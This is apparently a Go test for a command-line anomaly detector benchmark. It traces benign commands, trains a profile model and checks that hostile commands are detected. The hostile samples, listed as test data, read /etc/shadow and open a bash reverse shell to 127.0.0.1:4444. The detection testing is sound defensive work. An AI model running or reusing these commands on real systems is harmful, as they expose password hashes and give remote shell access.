package main

import (
	"os/exec"
	"path/filepath"
	"slices"
	"testing"
)

// TestSubset runs the benchmark on a few lines of each set with the
// profile detector: every line is traced, the model trained and both sets
// judged, and the hostile lines (credential reads, a download-and-run, a
// reverse shell) stand out from the held-out benign ones.
func TestSubset(t *testing.T) {
	if _, err := exec.LookPath("strace"); err != nil {
		t.Skip("strace is not installed: the benchmark traces command lines")
	}
	work := t.TempDir()
	det := filepath.Join(work, "detector")
	if out, err := exec.Command("go", "build", "-o", det, "../..").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	pick := map[string][]string{
		"train": {"cat /etc/passwd", "cat /etc/os-release /etc/debian_version", "head -n 20 /usr/share/common-licenses/GPL-2",
			"tail -n 5 /etc/group", "wc -l /etc/passwd /etc/group", "sort /etc/passwd", "cut -d : -f 1,7 /etc/passwd",
			"grep -c bash /etc/passwd", "sort -t : -k 3 -n /etc/passwd", "wc -c /usr/share/common-licenses/GPL-3"},
		"test":    {"cat /etc/shells", "sort -r /etc/group", "grep -n nologin /etc/passwd", "tac /etc/debian_version"},
		"hostile": {"sh -c 'cat /etc/shadow'", "python3 -c 'print(open(\"/etc/shadow\").read())'", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'"},
	}
	for _, set := range Sets[:3] {
		lines, err := ReadLines(set + ".txt")
		if err != nil {
			t.Fatal(err)
		}
		if len(lines) < 40 {
			t.Fatalf("%s.txt has %d lines", set, len(lines))
		}
		var sub = lines[:0:0]
		for _, l := range lines {
			if slices.Contains(pick[set], l.Name) {
				sub = append(sub, l)
			}
		}
		if len(sub) != len(pick[set]) {
			t.Fatalf("%s.txt: %d of the %d lines picked", set, len(sub), len(pick[set]))
		}
		if err := Record(det, sub, filepath.Join(work, set), 2); err != nil {
			t.Fatal(err)
		}
	}
	r, err := Measure(det, work, "profile")
	if err != nil {
		t.Fatal(err)
	}
	if r.Benign != 4 || r.Hostile != 3 {
		t.Fatalf("%d benign and %d hostile judged", r.Benign, r.Hostile)
	}
	if r.CombDR != 1 || r.AUC < 0.9 {
		t.Fatalf("hostile lines missed: %+v", r)
	}
	t.Logf("%s", Table([]Result{r}))
}
